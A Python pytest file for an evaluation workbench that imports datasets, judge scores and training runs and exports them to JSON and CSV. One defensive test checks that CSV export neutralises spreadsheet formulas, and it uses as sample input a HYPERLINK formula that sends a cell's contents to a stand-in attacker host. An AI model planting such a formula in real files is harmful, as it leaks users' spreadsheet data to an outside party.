"""Imports (every shared data file, run folders, generation output, judge scores), bad input, and exports
that round-trip through a new database."""

from __future__ import annotations

import csv
import json

import pytest

from trainer.errors import UserError
from workbench import cli, importing, store

BOOK = "eval-example-data"


def _comparable(rows: list[dict]) -> list[tuple]:
    """Response rows without database-local ids and file paths."""
    return [
        (
            r["item_id"],
            r["dataset"],
            r["position"],
            r["instruction"],
            r["input"],
            r["reference_output"],
            r["model"],
            r["text"],
        )
        for r in rows
    ]


@pytest.mark.parametrize(
    ("file_name", "kind", "items", "models", "responses"),
    [
        ("instruction-data.json", "instruction data", 1100, [], 0),
        ("instruction-data-with-response.json", "responses", 110, ["model_response"], 110),
        ("eval-example-data.json", "responses", 100, ["model 1 response", "model 2 response"], 200),
        ("instruction-data-with-preference.json", "preference data", 1100, ["rejected", "chosen"], 2200),
    ],
)
def test_every_shared_data_file_imports_and_reimports_unchanged(
    shared_dir, db_path, db_snapshot, file_name, kind, items, models, responses
):
    path = shared_dir / "datasets" / file_name
    db = store.open_db(db_path)
    summary = importing.import_path(db, path)
    assert (summary.kind, summary.dataset, summary.items, summary.models, summary.responses) == (
        kind,
        path.stem,
        items,
        models,
        responses,
    )
    # duplicated (instruction, input) pairs in the book's files stay separate items, so nothing is lost
    assert db["items"].count == items == len(json.loads(path.read_text()))
    assert db["responses"].count == responses
    assert [r["reference_output"] for r in store.dataset_items(db, path.stem)] == [
        e["output"] for e in json.loads(path.read_text())
    ]
    assert summary.written > 0 and summary.describe().startswith(f"imported {kind}")
    before = db_snapshot(db_path)
    again = importing.import_path(db, path)
    assert db_snapshot(db_path) == before
    assert again.written == 0  # a re-import that adds nothing says so
    assert again.describe().startswith(f"nothing new: data set '{path.stem}' already holds this file's {kind} (")


def test_preference_data_becomes_pairwise_grades_and_exports_back_identically(shared_dir, db_path, tmp_path):
    path = shared_dir / "datasets" / "instruction-data-with-preference.json"
    db = store.open_db(db_path)
    assert importing.import_path(db, path).pairwise_grades == 1100
    assert importing.import_path(db, path).pairwise_grades == 0  # idempotent
    out = tmp_path / "prefs.json"
    assert importing.export(db, "preferences", out) == 1100
    assert json.loads(out.read_text()) == json.loads(path.read_text())


def test_judge_scores_align_with_entries_and_refuse_a_short_list(shared_dir, book_db, db_snapshot):
    db = store.open_db(book_db)
    gpt4 = json.loads((shared_dir / "datasets" / "judge-scores" / "gpt4-model-2-response.json").read_text())
    rows = [r for r in store.judge_score_rows(db) if r["judge"] == "gpt4" and r["model"] == "model 2 response"]
    assert [r["score"] for r in rows] == gpt4
    before = db_snapshot(book_db)
    short = shared_dir / "datasets" / "judge-scores" / "llama3-8b-model-2-response.json"  # 99 scores
    with pytest.raises(UserError, match=f"99 scores but data set '{BOOK}' has 100 entries; nothing was imported"):
        importing.import_scores(db, short, judge="llama3", response_key="model 2 response")
    assert db_snapshot(book_db) == before


@pytest.mark.parametrize(
    ("scores", "message"),
    [
        (
            [50] * 99 + [101],
            r"entry 99 \(item [0-9a-f]{16}\): score 101 is outside judge 'gpt4''s range 0-100",
        ),
        ([50] * 99 + ["high"], "entry 99: a score must be a finite number or null, got str"),
        ({"scores": []}, "expected a non-empty JSON list of scores, got dict"),
        (
            [{"item_id": "0123456789abcdef", "score": 3}],
            r"entry 0 \(item 0123456789abcdef\): model .* no response",
        ),
        ([{"item": "x"}], "entry 0: expected an object with 'item_id' \\(string\\) and 'score'"),
    ],
)
def test_bad_score_files_are_refused_without_writing(book_db, tmp_path, db_snapshot, scores, message):
    path = tmp_path / "scores.json"
    path.write_text(json.dumps(scores))
    before = db_snapshot(book_db)
    with pytest.raises(UserError, match=message):
        importing.import_scores(store.open_db(book_db), path, judge="gpt4", response_key="model 2 response")
    assert db_snapshot(book_db) == before


def test_scores_as_objects_with_item_ids(book_db, tmp_path):
    db = store.open_db(book_db)
    items = store.dataset_items(db, BOOK)
    path = tmp_path / "scores.json"
    path.write_text(
        json.dumps(
            [
                {"item_id": items[3]["id"], "score": 4, "rationale": "mostly right"},
                {"item_id": items[7]["id"], "score": None, "error": "judge timed out"},
            ]
        )
    )
    summary = importing.import_scores(db, path, judge="panel", response_key="model 1 response", score_range=(1, 5))
    assert summary.scores == 2
    stored = list(
        db.query(
            "SELECT score, rationale, error FROM judge_scores JOIN judges ON judges.id = judge_id "
            "WHERE judges.name = 'panel' ORDER BY judge_scores.id"
        )
    )
    assert stored == [
        {"score": 4, "rationale": "mostly right", "error": None},
        {"score": None, "rationale": None, "error": "judge timed out"},
    ]
    with pytest.raises(UserError, match="unknown model \\(response key\\) 'model 3 response'; known: "):
        importing.import_scores(db, path, judge="panel", response_key="model 3 response")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[\n  {"instruction": "a",}\n]', r"malformed JSON at line 2, column 23: Expecting property name"),
        ('{"instruction": "a"}', "expected a JSON list of entries, got a dict"),
        ("[]", "the list of entries is empty"),
        ('[{"instruction": "a"}, "b"]', "entry 1: expected an object with 'instruction', got str"),
        ('[{"instruction": 7}]', "entry 0: 'instruction' must be a string, got int"),
        ('[{"instruction": "a", "input": 3}]', "entry 0: 'input' must be a string, got int"),
        (
            '[{"instruction": "a", "gpt2": ["x"]}]',
            r"entry 0: 'gpt2' \(a model's response\) must be a string, got list",
        ),
    ],
)
def test_bad_data_files_are_refused_without_writing(db_path, tmp_path, db_snapshot, text, message):
    db = store.open_db(db_path)
    path = tmp_path / "bad.json"
    path.write_text(text)
    before = db_snapshot(db_path)
    with pytest.raises(UserError, match=message):
        importing.import_path(db, path)
    assert db_snapshot(db_path) == before


def test_jsonl_errors_name_the_line(db_path, tmp_path):
    path = tmp_path / "data.jsonl"
    path.write_text('{"instruction": "a"}\n\n{"instruction": "b"\n')
    with pytest.raises(UserError, match="malformed JSON at line 3, column 20"):
        importing.import_path(store.open_db(db_path), path)


def _write_run(run_dir, name: str, data, losses: list[float]) -> None:
    run_dir.mkdir()
    config = {"name": name, "model_name": "gpt2", "style": "alpaca", "data": str(data), "train": {"lr": 5e-5}}
    (run_dir / "config.json").write_text(json.dumps(config))
    (run_dir / "split.json").write_text(
        json.dumps({"train": list(range(93)), "test": list(range(93, 104)), "val": list(range(104, 110))})
    )
    (run_dir / "metrics.jsonl").write_text(
        "".join(
            json.dumps(
                {
                    "step": 5 * i,
                    "epoch": i / 10,
                    "tokens_seen": 640 * i,
                    "train_loss": loss,
                    "val_loss": loss + 0.1,
                }
            )
            + "\n"
            for i, loss in enumerate(losses)
        )
    )


def test_run_folder_imports_config_metrics_and_split_labels(shared_dir, db_path, tmp_path):
    data = shared_dir / "datasets" / "instruction-data-with-response.json"
    run_dir = tmp_path / "run-a"
    _write_run(run_dir, "sft-124m", data, [3.0, 2.5, 2.0])
    db = store.open_db(db_path)
    importing.import_path(db, data)
    summary = importing.import_path(db, run_dir)
    assert (summary.kind, summary.models, summary.metrics, summary.split_labels) == (
        "run folder",
        ["sft-124m"],
        3,
        110,
    )
    assert [item["split"] for item in store.dataset_items(db, data.stem)] == ["train"] * 93 + ["test"] * 11 + [
        "val"
    ] * 6
    model = db["models"].get(store.model_id(db, "sft-124m"))
    assert (model["kind"], model["run_dir"]) == ("run", str(run_dir.resolve()))
    assert json.loads(model["config_json"])["train"] == {"lr": 5e-5}
    assert importing.import_path(db, run_dir).describe().startswith("nothing new: the store already holds")
    (run_dir / "metrics.jsonl").write_text('{"step": 0, "train_loss": 3.1}\n')
    assert importing.import_path(db, run_dir).written > 0  # a re-import replaces the history
    assert store.training_metrics(db, "sft-124m") == [
        {"step": 0, "epoch": None, "tokens_seen": None, "train_loss": 3.1, "val_loss": None}
        | dict.fromkeys(store.JUDGE_COLUMNS)
    ]
    # A judge's row during training (written after the step's losses) joins the step's evaluation.
    (run_dir / "metrics.jsonl").write_text(
        '{"step": 0, "train_loss": 3.1}\n{"step": 2, "train_loss": 3.0}\n{"step": 0, "judge_score": 40.5}\n'
    )
    importing.import_path(db, run_dir)
    assert [(row["step"], row["train_loss"], row["judge_score"]) for row in store.training_metrics(db, "sft-124m")] == [
        (0, 3.1, 40.5),
        (2, 3.0, None),
    ]
    (run_dir / "metrics.jsonl").write_text('{"step": 0}\n{"step": "one"}\n')
    with pytest.raises(UserError, match="metrics.jsonl: record 2: 'step' must be a whole number, got str"):
        importing.import_path(db, run_dir)
    with pytest.raises(UserError, match="not a trainer run folder"):
        importing.import_path(db, tmp_path)


def test_generation_output_joins_the_data_set_it_answers(shared_dir, db_path, tmp_path):
    """Trainer output (a split of a data file, FILE.meta.json beside it) lines up with that file's items."""
    data = shared_dir / "datasets" / "instruction-data-with-response.json"
    db = store.open_db(db_path)
    importing.import_path(db, data)
    entries = json.loads(data.read_text())[100:]
    output = tmp_path / "responses.json"
    output.write_text(json.dumps([{**e, "model_response": f"generated {i}"} for i, e in enumerate(entries)]))
    record = {
        "run": str(tmp_path / "runs" / "sft"),
        "name": "sft",
        "model_name": "gpt2",
        "checkpoint": "best",
        "style": "alpaca",
        "response_key": "model_response",
        "split": "test",
        "data": str(data),
        "decoding": {"max_new_tokens": 256, "temperature": 0.0},
    }
    (tmp_path / "responses.meta.json").write_text(json.dumps({**record, "responses": {"model_response": record}}))
    summary = importing.import_path(db, output)
    assert (summary.kind, summary.dataset, summary.models) == ("generation output", data.stem, ["sft"])
    assert db["items"].count == 110  # no new items: the responses joined the existing ones
    rows = store.response_rows(db, models=["sft"])
    assert [r["text"] for r in rows] == [f"generated {i}" for i in range(10)]
    assert [r["position"] for r in rows] == list(range(100, 110))
    assert {r["split"] for r in rows} == {"test"}
    assert json.loads(rows[0]["decoding_json"]) == record["decoding"]
    assert db["models"].get(store.model_id(db, "sft"))["kind"] == "run"


def test_json_export_round_trips_through_a_new_database(book_db, tmp_path):
    db = store.open_db(book_db)
    out = tmp_path / "export.json"
    assert importing.export(db, "json", out) == 100
    copy = store.open_db(tmp_path / "copy.db")
    importing.import_path(copy, out, dataset=BOOK)
    assert _comparable(store.response_rows(copy)) == _comparable(store.response_rows(db))
    assert json.loads(out.read_text())[0].keys() == {
        "instruction",
        "input",
        "output",
        "model 1 response",
        "model 2 response",
    }


def test_csv_export_holds_every_score_and_grade(book_db, tmp_path):
    db = store.open_db(book_db)
    item = store.dataset_items(db, BOOK)[0]
    response = store.response_ids_by_item(db, "model 2 response")[item["id"]]
    store.add_grade(db, response, "alice", 3, "ok")
    store.add_pairwise_grade(db, item["id"], "model 1 response", "model 2 response", "alice", "left", True)
    out = tmp_path / "grades.csv"
    assert importing.export(db, "csv", out) == 302
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["kind"] for r in rows[:5]] == ["judge", "judge", "judge", "grade", "pairwise"]
    assert rows[3] | {"created_at": ""} == {
        "kind": "grade",
        "dataset": BOOK,
        "item_id": item["id"],
        "instruction": item["instruction"],
        "model": "model 2 response",
        "other_model": "",
        "rater": "alice",
        "repeat": "0",
        "score": "3",
        "preference": "",
        "comment": "ok",
        "created_at": "",
        "response_version": "1",
        "response_current": "1",
        "response": store.response_rows(db, models=["model 2 response"])[0]["text"],
    }
    assert rows[4]["response"] == rows[4]["response_version"] == ""  # a pairwise grade refers to no one version
    assert sum(r["kind"] == "judge" for r in rows) == 300


def test_preference_export_takes_the_majority_of_human_pairwise_grades(book_db, tmp_path):
    db = store.open_db(book_db)
    first, second, third = store.dataset_items(db, BOOK)[:3]
    models = ("model 1 response", "model 2 response")
    for reviewer, preference in (("alice", "right"), ("bob", "right"), ("carol", "left")):
        store.add_pairwise_grade(db, first["id"], *models, reviewer, preference, True)
    store.add_pairwise_grade(db, second["id"], *models, "alice", "tie", True)
    store.add_pairwise_grade(db, third["id"], *reversed(models), "alice", "left", True)
    texts = {(r["item_id"], r["model"]): r["text"] for r in store.response_rows(db)}
    assert importing.export_preferences(db) == [
        {
            "instruction": first["instruction"],
            "input": first["input"],
            "output": first["reference_output"],
            "chosen": texts[first["id"], models[1]],
            "rejected": texts[first["id"], models[0]],
        },
        {
            "instruction": third["instruction"],
            "input": third["input"],
            "output": third["reference_output"],
            "chosen": texts[third["id"], models[1]],
            "rejected": texts[third["id"], models[0]],
        },
    ]


def test_cli_exit_codes_and_messages(shared_dir, db_path, tmp_path, capsys):
    data = shared_dir / "datasets" / "eval-example-data.json"
    assert cli.main(["import", str(data), "--db", str(db_path)]) == 0
    assert "imported responses into data set 'eval-example-data': 100 items" in capsys.readouterr().out
    scores = shared_dir / "datasets" / "judge-scores" / "gpt4-model-1-response.json"
    argv = ["import-scores", str(scores), "--db", str(db_path), "--judge", "gpt4", "--response-key"]
    assert cli.main([*argv, "model 1 response"]) == 0
    assert "judge 'gpt4': imported judge scores into data set 'eval-example-data'" in capsys.readouterr().out
    assert cli.main([*argv, "model 1 response"]) == 0
    assert "judge 'gpt4': nothing new: data set 'eval-example-data' already holds" in capsys.readouterr().out
    assert cli.main([*argv, "model_response"]) == 2
    assert capsys.readouterr().err.startswith("error: unknown model (response key) 'model_response'; known: ")
    assert cli.main(["import", str(data), "--db", str(tmp_path / "nowhere" / "x.db")]) == 2
    assert "does not exist" in capsys.readouterr().err
    out = tmp_path / "out.json"
    assert cli.main(["export", "--db", str(db_path), "--format", "json", "--out", str(out)]) == 0
    assert f"wrote 100 entries to {out}" in capsys.readouterr().out


def test_csv_export_neutralises_spreadsheet_formulas_and_keeps_numbers(db_path, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    data = tmp_path / "formulas.json"
    data.write_text(json.dumps([{"instruction": formula, "input": "", "@model": "-1 is the answer"}]))
    db = store.open_db(db_path)
    importing.import_path(db, data)
    response = store.response_rows(db)[0]["response_id"]
    store.add_grade(db, response, "+reviewer", 2, "@SUM(1+1)")
    store.add_grade(db, response, "tab", 3, "\tTAB")
    store.add_grade(db, response, "cr", 4, "\rCR")
    store.add_grade(db, response, "plain", 5, "a=b, fine")
    (tmp_path / "scores.json").write_text(
        json.dumps([{"item_id": store.dataset_items(db, "formulas")[0]["id"], "score": -3.0, "rationale": "-bad"}])
    )
    importing.import_scores(db, tmp_path / "scores.json", judge="signed", response_key="@model", score_range=(-5, 5))
    out = tmp_path / "out.csv"
    importing.export(db, "csv", out)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    judge, *grades = rows
    assert (judge["instruction"], judge["model"], judge["response"]) == ("'" + formula, "'@model", "'-1 is the answer")
    assert (judge["score"], judge["comment"]) == ("-3", "'-bad")  # a negative number is a number, not a formula
    assert sorted((g["rater"], g["comment"], g["score"]) for g in grades) == [
        ("'+reviewer", "'@SUM(1+1)", "2"),
        ("cr", "'\rCR", "4"),
        ("plain", "a=b, fine", "5"),
        ("tab", "'\tTAB", "3"),
    ]
    assert importing.csv_cell(-3.0) == -3 and importing.csv_cell(0.5) == 0.5 and importing.csv_cell(None) is None


def _two_uploads(tmp_path, second: str):
    good = tmp_path / "good.json"
    good.write_text(json.dumps([{"instruction": "Say hi.", "input": "", "output": "Hi.", "m": "Hello."}]))
    bad = tmp_path / "bad.json"
    bad.write_text(second)
    return [good, bad]


@pytest.mark.parametrize(
    ("second", "message"),
    [
        ('[{"instruction": "x", "m": 3}]', r"bad\.json: entry 0: 'm' \(a model's response\) must be a string"),
        ("[{", r"bad\.json: malformed JSON at line 1"),
    ],
)
def test_uploads_import_all_or_nothing_and_the_error_names_the_bad_file(
    db_path, tmp_path, db_snapshot, second, message
):
    db = store.open_db(db_path)
    earlier = tmp_path / "earlier.json"
    earlier.write_text(json.dumps([{"instruction": "Say bye.", "input": "", "m": "Bye."}]))
    importing.import_path(db, earlier)
    before = db_snapshot(db_path)
    with pytest.raises(UserError, match=message):
        importing.import_files(db, _two_uploads(tmp_path, second), kind="data")
    assert db_snapshot(db_path) == before
    assert not db.conn.in_transaction


def test_uploads_of_data_a_run_folder_and_scores(shared_dir, db_path, tmp_path, db_snapshot):
    db = store.open_db(db_path)
    good, _ = _two_uploads(tmp_path, "[]")
    data = shared_dir / "datasets" / "instruction-data-with-response.json"
    run_dir = tmp_path / "run-a"
    _write_run(run_dir, "sft-124m", data, [3.0, 2.5])
    uploads = [run_dir / "config.json", run_dir / "metrics.jsonl", run_dir / "split.json", data, good]
    summaries = importing.import_files(db, uploads, kind="data")
    # data files first, so that the run's split labels find the items they label
    assert [(s.kind, s.dataset) for s in summaries] == [
        ("responses", data.stem),
        ("responses", "good"),
        ("run folder", data.stem),
    ]
    assert summaries[2].split_labels == 110 and store.training_metrics(db, "sft-124m")[-1]["train_loss"] == 2.5

    scores = tmp_path / "scores.json"
    scores.write_text(json.dumps([50]))
    wrong = tmp_path / "wrong.json"
    wrong.write_text(json.dumps([500]))
    before = db_snapshot(db_path)
    with pytest.raises(UserError, match=r"wrong\.json: entry 0 .*outside judge 'j'"):
        importing.import_files(db, [scores, wrong], kind="scores", judge="j", response_key="m", dataset="good")
    assert db_snapshot(db_path) == before
    with pytest.raises(UserError, match=r"scores\.json: unknown model \(response key\) 'nobody'"):
        importing.import_files(db, [scores], kind="scores", judge="j", response_key="nobody", dataset="good")
    with pytest.raises(UserError, match="judge's name"):
        importing.import_files(db, [scores], kind="scores", judge="", response_key="m")
    (summary,) = importing.import_files(db, [scores], kind="scores", judge="j", response_key="m", dataset="good")
    assert summary.scores == 1
    assert db_snapshot(db_path) != before


def test_uploads_keep_generation_metadata_sidecars(shared_dir, db_path, tmp_path):
    data = shared_dir / "datasets" / "instruction-data-with-response.json"
    entries = json.loads(data.read_text())[100:]
    output = tmp_path / "responses.json"
    output.write_text(json.dumps([{**e, "model_response": f"generated {i}"} for i, e in enumerate(entries)]))
    meta = tmp_path / "responses.meta.json"
    meta.write_text(
        json.dumps({"run": "/runs/sft", "name": "sft", "response_key": "model_response", "data": str(data)})
    )
    db = store.open_db(db_path)
    (summary,) = importing.import_files(db, [meta, output], kind="data")
    assert (summary.kind, summary.dataset, summary.models) == ("generation output", data.stem, ["sft"])
    with pytest.raises(UserError, match=r"\.meta\.json files"):
        importing.import_files(db, [meta], kind="data")
    with pytest.raises(UserError, match="unknown upload kind"):
        importing.import_files(db, [output], kind="pictures")
